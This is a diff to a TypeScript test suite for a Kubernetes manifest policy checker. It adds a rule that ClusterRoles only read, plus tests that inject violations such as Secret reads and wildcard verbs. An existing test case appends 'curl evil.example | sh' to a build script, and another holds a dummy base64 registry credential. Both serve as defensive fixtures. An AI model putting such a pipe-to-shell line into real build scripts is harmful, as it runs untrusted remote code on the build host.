@@ -31,6 +31,7 @@ const BREAKERS: Record<string, (ms: Manifest[]) => void> = {
   IB009: (ms) => { ms.find((m) => m.kind === 'ConfigMap' && m.metadata.name === 'image-builder-script')!.data['build.sh'] += 'curl evil.example | sh\n'; },
   IB011: (ms) => { builder(ms).containers[0].securityContext.seccompProfile = { type: 'Unconfined' }; },
   IB014: (ms) => { ms.push({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'registry-push' }, stringData: { password: 'x' } }); },
+  IB019: (ms) => { ms.find((m) => m.kind === 'ClusterRole')!.rules[0].verbs.push('delete'); },
   IB015: (ms) => { env(ms, 'REGISTRY_PASSWORD').valueFrom.secretKeyRef.name = 'another-secret'; },
   IB016: (ms) => { registry(ms).spec.template.spec.containers[1].volumeMounts = []; },
   IB017: (ms) => { configMap(ms).data['config.yml'] += 'storage:\n  cache:\n    blobdescriptor: inmemory\n'; },
@@ -141,7 +142,9 @@ describe('policy', () => {
 
   test('the committed dist/ YAML, read as kubectl reads it (YAML 1.1), keeps every rule', () => {
     const manifests = parseManifests(distText());
-    expect(manifests.map((m) => m.kind)).toEqual(['ConfigMap', 'Deployment', 'Service', 'ConfigMap', 'ConfigMap', 'CronJob', 'Job']);
+    expect(manifests.map((m) => m.kind)).toEqual([
+      'ConfigMap', 'Deployment', 'Service', 'ConfigMap', 'ConfigMap', 'ServiceAccount', 'ClusterRole', 'ClusterRoleBinding', 'CronJob', 'Job',
+    ]);
     expect(checkPolicy(manifests)).toEqual([]);
   });
 
@@ -150,7 +153,7 @@ describe('policy', () => {
     BREAKERS[id](manifests);
     const violations = checkPolicy(manifests);
     expect(violations.map((v) => v.rule)).toEqual([id]);
-    expect(violations[0].object).toMatch(/^(Job|Deployment|Secret|ConfigMap)\//);
+    expect(violations[0].object).toMatch(/^(Job|Deployment|Secret|ConfigMap|ClusterRole)\//);
     expect(violations[0].fix.length).toBeGreaterThan(10);
   });
 
@@ -237,5 +240,22 @@ describe('IB014: no secret material, whichever way it sneaks in', () => {
   test('a docker config.json with auths in an annotation', () => {
     expect(violations((ms) => { job(ms).metadata.annotations = { cfg: '{"auths": {"localhost:30500": {"auth": "YnVpbGRlcjpodW50ZXIy"}}}' }; }))
       .toEqual(['a docker config.json with credentials in the manifest']);
+  });
+});
+
+describe('IB019: a ClusterRole only reads', () => {
+  const role = (ms: Manifest[]) => ms.find((m) => m.kind === 'ClusterRole')!;
+  test.each([
+    ['a Secret read', (r: any) => { r.rules.push({ apiGroups: [''], resources: ['secrets'], verbs: ['list'] }); }, /resources "secrets"/],
+    ['every resource', (r: any) => { r.rules[0].resources = ['*']; }, /Secrets or every resource/],
+    ['every API group', (r: any) => { r.rules[0].apiGroups = ['*']; }, /every API group/],
+    ['a wildcard verb', (r: any) => { r.rules[0].verbs = ['*']; }, /verbs "\*": not a read/],
+    ['a non-resource URL', (r: any) => { r.rules.push({ nonResourceURLs: ['/metrics'], verbs: ['get'] }); }, /non-resource URLs/],
+    ['aggregation', (r: any) => { r.aggregationRule = { clusterRoleSelectors: [{ matchLabels: { x: 'y' } }] }; }, /aggregated/],
+  ])('%s is refused', (_what, breaks, message) => {
+    const manifests = clone(synthDefault());
+    breaks(role(manifests));
+    const violations = checkPolicy(manifests).filter((v) => v.rule === 'IB019');
+    expect(violations.map((v) => v.message).join('\n')).toMatch(message);
   });
 });
